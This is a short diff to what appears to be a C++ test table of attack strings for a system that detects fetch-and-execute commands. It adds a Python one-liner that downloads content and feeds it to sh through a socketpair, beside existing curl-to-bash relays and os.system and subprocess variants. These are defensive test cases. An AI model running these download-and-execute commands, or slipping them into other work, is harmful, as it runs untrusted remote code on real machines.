@@ -89,6 +89,10 @@ const Attack kTextAttacks[] = {
     {"a relay that does not exec", "curl -s @URL | while read -r l; do echo \"$l\"; done | bash"},
     {"two such relays", "curl -s @URL | while read -r l; do echo \"$l\"; done | "
                         "(while read -r l; do echo \"$l\"; done) | bash"},
+    ONE_LINER("a socketpair",
+              "/usr/bin/python3 -c '" FETCH "import socket; a, b = socket.socketpair(); "
+              "p = subprocess.Popen([\"sh\"], stdin=b); b.close(); a.sendall(t); "
+              "a.close(); p.wait()'"),
     ONE_LINER("python and os.system", "/usr/bin/python3 -c '" FETCH "os.system(t.decode())'"),
     ONE_LINER("python and a shell",
               "/usr/bin/python3 -c '" FETCH "subprocess.run(t.decode(), shell=True)'"),
